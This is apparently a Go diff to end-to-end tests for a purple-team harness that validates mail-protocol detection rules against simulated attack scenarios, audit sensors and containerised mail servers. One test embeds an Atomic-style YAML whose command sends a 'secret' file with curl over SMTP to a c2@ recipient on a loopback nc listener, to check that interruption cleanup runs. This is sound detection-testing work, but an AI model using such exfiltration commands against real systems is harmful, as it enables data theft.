@@ -16,6 +16,8 @@ import (
 	"syscall"
 	"testing"
 	"time"
+
+	"github.com/purpleharness/purpleharness/prereq"
 )
 
 // The end-to-end tests build cmd/validate once and run it the way a user
@@ -29,10 +31,7 @@ func buildValidate(t *testing.T) string {
 	if validateBin != "" {
 		return validateBin
 	}
-	goBin, err := exec.LookPath("go")
-	if err != nil {
-		t.Skip("needs the go tool to build cmd/validate")
-	}
+	goBin := prereq.LookPath(t, "go")
 	dir, err := os.MkdirTemp("", "purpleharness-e2e-")
 	if err != nil {
 		t.Fatal(err)
@@ -42,10 +41,9 @@ func buildValidate(t *testing.T) string {
 		t.Fatal(err)
 	}
 	bin := filepath.Join(dir, "validate")
-	// Static (CGO_ENABLED=0), as a release build is: then the runs that
-	// put the mail servers in a container use this binary as it is, rather
-	// than each building one first (minutes on a cold build cache, beyond
-	// e2eTimeout).
+	// Static (CGO_ENABLED=0), as a release build is. The container runs
+	// put this binary into their image as it is (a dynamic one would bring
+	// its loader and libraries along; fakemail/container tests that).
 	build := exec.Command(goBin, "build", "-o", bin, "../cmd/validate")
 	build.Env = append(os.Environ(), "CGO_ENABLED=0")
 	out, err := build.CombinedOutput()
@@ -68,6 +66,7 @@ func TestMain(m *testing.M) {
 type runResult struct {
 	code           int
 	stdout, stderr string
+	pid            int // of the validate process
 }
 
 // e2eTimeout bounds one validate run: the whole suite takes seconds, so a
@@ -96,22 +95,21 @@ func runValidate(t *testing.T, args ...string) runResult {
 	if ctx.Err() != nil {
 		t.Fatalf("validate %v still running after %s; stderr:\n%s", args, e2eTimeout, stderr.String())
 	}
-	return runResult{code, stdout.String(), stderr.String()}
+	return runResult{code, stdout.String(), stderr.String(), cmd.Process.Pid}
 }
 
 func needRoot(t *testing.T) {
 	t.Helper()
-	if os.Geteuid() != 0 {
-		t.Skip("needs root: the audit sensor and the canonical mail ports")
-	}
+	prereq.NeedRoot(t, "the audit sensor and the canonical mail ports")
 }
 
-// skipIfBusy skips when the environment, not the code, failed (exit 3
-// because another run holds the mail ports or audit is missing).
+// skipIfEnv skips when validate exited 3 naming what the machine lacks
+// ("[missing audit]", "[missing port]": another program holds a mail
+// port). An exit 3 without such a cause is a failure of ours and fails.
 func skipIfEnv(t *testing.T, r runResult) {
 	t.Helper()
 	if r.code == 3 {
-		t.Skipf("environment not available: %s", strings.TrimSpace(r.stderr))
+		prereq.SkipOrFailText(t, "validate exit 3", r.stderr)
 	}
 }
 
@@ -236,16 +234,40 @@ func TestE2EBadInputExits2(t *testing.T) {
 	}
 }
 
-func TestE2EPortBusyExits3(t *testing.T) {
+// TestE2EHostMailServerNoClash: a mail server on the host's 127.0.0.1:25
+// (postfix on most Linux servers) does not disturb a run, whose servers
+// listen in the run's own network namespace; and the scenario's clients
+// reach those, never the host's.
+func TestE2EHostMailServerNoClash(t *testing.T) {
 	needRoot(t)
 	ln, err := net.Listen("tcp", "127.0.0.1:25")
-	if err == nil {
-		t.Cleanup(func() { ln.Close() })
+	if err != nil {
+		prereq.Skip(t, prereq.Port, fmt.Sprintf("127.0.0.1:25 taken by another program: %v", err))
 	}
-	// Bound by us or by someone else: either way validate cannot bind it.
-	r := runValidate(t, "run", "--out", t.TempDir(), "--scenario", "single-poll")
-	if r.code != 3 || !strings.Contains(r.stderr, "127.0.0.1:25") {
-		t.Errorf("exit %d, stderr:\n%s\nwant exit 3 naming 127.0.0.1:25", r.code, r.stderr)
+	t.Cleanup(func() { ln.Close() })
+	accepted := make(chan struct{}, 16)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted <- struct{}{}
+			c.Close()
+		}
+	}()
+	out := t.TempDir()
+	r := runValidate(t, "run", "--servers", "in-process", "--out", out, "--scenario", "single-poll,three-programs-once-each")
+	skipIfEnv(t, r)
+	if r.code != 0 {
+		t.Fatalf("exit %d with a listener on the host's 127.0.0.1:25, want 0\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
+	}
+	// The scenario's bash connected to port 25 once: the run's own server
+	// took it. (The host's listener is not asserted idle: other programs
+	// on a shared host may connect to it.)
+	tr, err := os.ReadFile(filepath.Join(out, "transcripts.ndjson"))
+	if err != nil || !bytes.Contains(tr, []byte(`"port":25`)) {
+		t.Errorf("the run's server has no session on port 25 (%v); the host's listener got %d connections meanwhile\n%s", err, len(accepted), tr)
 	}
 }
 
@@ -254,10 +276,7 @@ func TestE2EPortBusyExits3(t *testing.T) {
 // mail ports, no scenario processes.
 func TestE2EInterruptCleansUp(t *testing.T) {
 	needRoot(t)
-	auditctl, err := exec.LookPath("auditctl")
-	if err != nil {
-		t.Skip("needs auditctl to inspect audit rules")
-	}
+	auditctl := prereq.LookPath(t, "auditctl")
 	cmd := exec.Command(buildValidate(t), "run", "--out", t.TempDir(), "--scenario", "pop3-nc-polling,imap-curl-c2-channel")
 	cmd.Dir = ".."
 	var stderr lockedBuffer
@@ -278,6 +297,7 @@ func TestE2EInterruptCleansUp(t *testing.T) {
 	}
 	waited := make(chan error, 1)
 	go func() { waited <- cmd.Wait() }()
+	var err error
 	select {
 	case err = <-waited:
 	case <-time.After(e2eTimeout):
@@ -290,7 +310,7 @@ func TestE2EInterruptCleansUp(t *testing.T) {
 		t.Fatalf("validate ended with %v after SIGINT, want a non-zero exit\n%s", err, stderr.String())
 	}
 	if ee.ExitCode() == 3 {
-		t.Skipf("environment not available: %s", stderr.String())
+		prereq.SkipOrFailText(t, "validate exit 3", stderr.String())
 	}
 	rulesOut, _ := exec.Command(auditctl, "-l").CombinedOutput()
 	if mark := []byte("purpleharness:" + itoa(pid) + ":"); bytes.Contains(rulesOut, mark) {
@@ -338,15 +358,13 @@ func (l *lockedBuffer) String() string {
 func itoa(n int) string { return strconv.Itoa(n) }
 
 // TestE2EContainerServers runs a scenario against the mail servers in a
-// container (host network) and checks the transcript came back from it and
+// container serving the run's network namespace and checks the transcript came back from it and
 // nothing is left running.
 func TestE2EContainerServers(t *testing.T) {
 	needRoot(t)
-	if _, err := exec.LookPath("docker"); err != nil {
-		t.Skip("needs docker for the mail server container")
-	}
-	if err := exec.Command("docker", "info").Run(); err != nil {
-		t.Skip("needs a running Docker daemon")
+	docker := prereq.LookPath(t, "docker")
+	if out, err := exec.Command(docker, "info").CombinedOutput(); err != nil {
+		prereq.Skip(t, prereq.Docker, fmt.Sprintf("docker info: %v: %s", err, out))
 	}
 	out := t.TempDir()
 	r := runValidate(t, "run", "--servers", "container", "--out", out, "--scenario", "single-poll,unlisted-client-three-protocols")
@@ -354,7 +372,7 @@ func TestE2EContainerServers(t *testing.T) {
 	if r.code != 0 {
 		t.Fatalf("exit %d, want 0\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
 	}
-	if !strings.Contains(r.stderr, "mail servers: container ") || !strings.Contains(r.stderr, "(host network)") {
+	if !strings.Contains(r.stderr, "mail servers: container ") || !strings.Contains(r.stderr, "network namespace purpleharness-") {
 		t.Errorf("stderr does not say the servers ran in a container:\n%s", r.stderr)
 	}
 	tr, err := os.ReadFile(filepath.Join(out, "transcripts.ndjson"))
@@ -375,55 +393,81 @@ func TestE2EContainerServers(t *testing.T) {
 // environment error names what is missing and the exit code is 3.
 func TestE2ENotRootExits3(t *testing.T) {
 	needRoot(t) // to switch to another user
-	setpriv, err := exec.LookPath("setpriv")
-	if err != nil {
-		t.Skip("needs setpriv (util-linux) to drop privileges")
-	}
-	cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", buildValidate(t), "run", "--out", filepath.Join(t.TempDir(), "out"), "--scenario", "single-poll", "--servers", "in-process")
-	cmd.Dir = ".."
+	setpriv := prereq.LookPath(t, "setpriv")
+	// An --out nobody may write: one it may not is bad input (exit 2).
+	out := readableCopy(t, "scenarios", "rules", "atomics")
+	cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", buildValidate(t), "run", "--out", filepath.Join(out, "out"), "--scenario", "single-poll", "--servers", "in-process")
+	cmd.Dir = out
 	var stderr bytes.Buffer
 	cmd.Stderr = &stderr
-	err = cmd.Run()
+	err := cmd.Run()
 	var ee *exec.ExitError
 	if !errors.As(err, &ee) || ee.ExitCode() != 3 || !strings.Contains(stderr.String(), "needs root") {
 		t.Errorf("as nobody: %v, stderr:\n%s\nwant exit 3 saying the run needs root", err, stderr.String())
 	}
 }
 
-// TestE2EInterruptRunsCleanup interrupts an atomic while it waits on a
-// server that never answers, and checks that the atomic's cleanup_command
-// still ran (its exfiltration file is gone) and its curl was killed.
+// TestE2EInterruptRunsCleanup interrupts an atomic while its curl waits on
+// an SMTP server that never greets, and checks that the atomic's
+// cleanup_command still ran (its exfiltration file is gone), its processes
+// were killed, and the partial report says the run was interrupted.
+//
+// The run's scenarios live in its own network namespace, where no listener
+// of this test can be reached: the atomic starts the silent server itself
+// (nc -l, which accepts and never writes) on the namespace's loopback.
 func TestE2EInterruptRunsCleanup(t *testing.T) {
 	needRoot(t)
-	// A listener that accepts and never greets: curl waits on it.
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { ln.Close() })
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			t.Cleanup(func() { c.Close() })
-		}
-	}()
+	prereq.LookPath(t, "nc")
+	prereq.LookPath(t, "curl")
 	dir := t.TempDir()
 	exfil := filepath.Join(dir, "exfil.eml")
+	atomicsDir := filepath.Join(dir, "atomics")
+	if err := os.MkdirAll(filepath.Join(atomicsDir, "T1071.003"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	atomic := `attack_technique: T1071.003
+display_name: 'Application Layer Protocol: Mail Protocols'
+atomic_tests:
+- name: SMTP exfiltration to a server that never greets
+  auto_generated_guid: 3f6f0a52-8d1e-4f57-9b0e-2c4d1f0e7a11
+  description: Writes a message file, then sends it with curl to an SMTP server that accepts and stays silent.
+  supported_platforms:
+  - linux
+  input_arguments:
+    port:
+      description: TCP port of the silent server
+      type: integer
+      default: 2525
+    exfil_file:
+      description: Message file
+      type: path
+      default: /tmp/exfil.eml
+  executor:
+    name: sh
+    elevation_required: false
+    command: |
+      printf 'Subject: host\n\nsecret\n' > #{exfil_file}
+      nc -l 127.0.0.1 #{port} > /dev/null &
+      sleep 0.3
+      curl -s --max-time 60 --url smtp://127.0.0.1:#{port} --mail-from a@purpleharness.test --mail-rcpt c2@purpleharness.test -T #{exfil_file}
+    cleanup_command: |
+      rm -f #{exfil_file}
+`
+	if err := os.WriteFile(filepath.Join(atomicsDir, "T1071.003", "T1071.003.yaml"), []byte(atomic), 0o644); err != nil {
+		t.Fatal(err)
+	}
 	suite := filepath.Join(dir, "suite.yaml")
-	port := ln.Addr().(*net.TCPAddr).Port
 	body := fmt.Sprintf(`scenarios:
   - name: stuck-exfiltration
-    atomic: {technique: T1071.003, name: "SMTP C2 exfiltration with curl"}
-    inputs: {port: %d, exfil_file: %q, timeout: 30}
+    atomic: {technique: T1071.003, name: "SMTP exfiltration to a server that never greets"}
+    inputs: {port: 2525, exfil_file: %q}
+    timeout: 90s
     expect: {"*": silent}
-`, port, exfil)
+`, exfil)
 	if err := os.WriteFile(suite, []byte(body), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	cmd := exec.Command(buildValidate(t), "run", "--suite", suite, "--out", filepath.Join(dir, "out"))
+	cmd := exec.Command(buildValidate(t), "run", "--suite", suite, "--atomics", atomicsDir, "--out", filepath.Join(dir, "out"))
 	cmd.Dir = ".."
 	var stderr lockedBuffer
 	cmd.Stderr = &stderr
@@ -448,6 +492,7 @@ func TestE2EInterruptRunsCleanup(t *testing.T) {
 	}
 	waited := make(chan error, 1)
 	go func() { waited <- cmd.Wait() }()
+	var err error
 	select {
 	case err = <-waited:
 	case <-time.After(e2eTimeout):
@@ -456,8 +501,8 @@ func TestE2EInterruptRunsCleanup(t *testing.T) {
 		t.Fatalf("validate did not end within %s of SIGINT; stderr:\n%s", e2eTimeout, stderr.String())
 	}
 	var ee *exec.ExitError
-	if !errors.As(err, &ee) || ee.ExitCode() != 1 {
-		t.Fatalf("after SIGINT: %v, want exit 1; stderr:\n%s", err, stderr.String())
+	if !errors.As(err, &ee) || ee.ExitCode() != 130 {
+		t.Fatalf("after SIGINT: %v, want exit 130; stderr:\n%s", err, stderr.String())
 	}
 	if _, err := os.Stat(exfil); !errors.Is(err, os.ErrNotExist) {
 		t.Errorf("cleanup_command did not run: %s still exists (%v)", exfil, err)
@@ -476,5 +521,80 @@ func TestE2EInterruptRunsCleanup(t *testing.T) {
 	}
 	if err := json.Unmarshal(data, &rep); err != nil || rep.Passed || rep.Incomplete != "interrupted" {
 		t.Errorf("report.json after the interrupt: passed=%v incomplete=%q (%v), want false and \"interrupted\"", rep.Passed, rep.Incomplete, err)
+	}
+}
+
+// TestE2EUnverifiable: rules that need accepted connections and closes,
+// judged on the audit sensor (which sees neither), are UNVERIFIABLE with
+// the gap named — in stdout, report.json and junit.xml — never MISSED; the
+// rule every sensor can serve is judged as usual, and the run passes.
+func TestE2EUnverifiable(t *testing.T) {
+	needRoot(t)
+	out := t.TempDir()
+	r := runValidate(t, "run", "--servers", "in-process", "--out", out,
+		"--sensor", "audit", "--suite", "harness/testdata/lifecycle.yaml", "--rules", "harness/testdata/lifecycle-rules")
+	skipIfEnv(t, r)
+	if r.code != 0 {
+		t.Fatalf("validate run: exit %d, want 0 (UNVERIFIABLE does not fail a run)\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
+	}
+	if !strings.Contains(r.stdout, "PASSED: 2 scenarios × 3 rules: 2 PASS, 4 UNVERIFIABLE\n") || strings.Contains(r.stdout, ": MISSED\n") {
+		t.Errorf("stdout headline, want 2 PASS and 4 UNVERIFIABLE, no MISSED cell:\n%s", r.stdout)
+	}
+	for _, want := range []string{
+		`connection-accepted-by-scenario × connection_accepted_by_nc: UNVERIFIABLE`,
+		`the rule tests event.action == "connection_accepted", which the real Elastic Defend source sends but this run does not render; MISSED here`,
+		`connection-closed-by-shell × attempt_then_disconnect: UNVERIFIABLE`,
+		`event.action == "disconnect_received": the sensor of this run does not observe socket closes`,
+		`UNVERIFIABLE: 4 cells rest on telemetry this run does not render`,
+	} {
+		if !strings.Contains(r.stdout, want) {
+			t.Errorf("stdout lacks %q:\n%s", want, r.stdout)
+		}
+	}
+	data, err := os.ReadFile(filepath.Join(out, "report.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var rep struct {
+		Gaps    []struct{ Field, Value string } `json:"telemetry_gaps"`
+		Results []struct {
+			Scenario, Rule, Verdict string
+			Gaps                    []string
+		} `json:"results"`
+	}
+	if err := json.Unmarshal(data, &rep); err != nil {
+		t.Fatalf("report.json: %v", err)
+	}
+	want := map[string]string{
+		"connection-accepted-by-scenario/Connection accepted by nc":                     "UNVERIFIABLE",
+		"connection-accepted-by-scenario/POP3 attempt then disconnect from one process": "UNVERIFIABLE",
+		"connection-accepted-by-scenario/POP3 connection attempt":                       "PASS",
+		"connection-closed-by-shell/Connection accepted by nc":                          "UNVERIFIABLE",
+		"connection-closed-by-shell/POP3 attempt then disconnect from one process":      "UNVERIFIABLE",
+		"connection-closed-by-shell/POP3 connection attempt":                            "PASS",
+	}
+	for _, res := range rep.Results {
+		key := res.Scenario + "/" + res.Rule
+		if res.Verdict != want[key] {
+			t.Errorf("%s: verdict %s, want %s", key, res.Verdict, want[key])
+		}
+		if (res.Verdict == "UNVERIFIABLE") != (len(res.Gaps) > 0) {
+			t.Errorf("%s: verdict %s with gaps %q", key, res.Verdict, res.Gaps)
+		}
+	}
+	if len(rep.Results) != len(want) || len(rep.Gaps) == 0 {
+		t.Errorf("report.json: %d results, %d telemetry gaps; want %d and some", len(rep.Results), len(rep.Gaps), len(want))
+	}
+	junit, err := os.ReadFile(filepath.Join(out, "junit.xml"))
+	if err != nil || !bytes.Contains(junit, []byte(`<skipped message="UNVERIFIABLE: cannot verify: the rule tests event.action == &#34;disconnect_received&#34;`)) {
+		t.Errorf("junit.xml lacks the UNVERIFIABLE skip: %v\n%s", err, junit)
+	}
+	// A replay keeps the recorded sensor's gaps: the same UNVERIFIABLE
+	// cells, not MISSED ones.
+	replayed := filepath.Join(t.TempDir(), "replayed")
+	rr := runValidate(t, "run", "--replay", out, "--out", replayed,
+		"--suite", "harness/testdata/lifecycle.yaml", "--rules", "harness/testdata/lifecycle-rules")
+	if rr.code != 0 || !strings.Contains(rr.stdout, "PASSED (replayed from "+out+"): 2 scenarios × 3 rules: 2 PASS, 4 UNVERIFIABLE\n") {
+		t.Errorf("replay: exit %d, want 0 and the live run's 2 PASS, 4 UNVERIFIABLE\nstdout:\n%s\nstderr:\n%s", rr.code, rr.stdout, rr.stderr)
 	}
 }
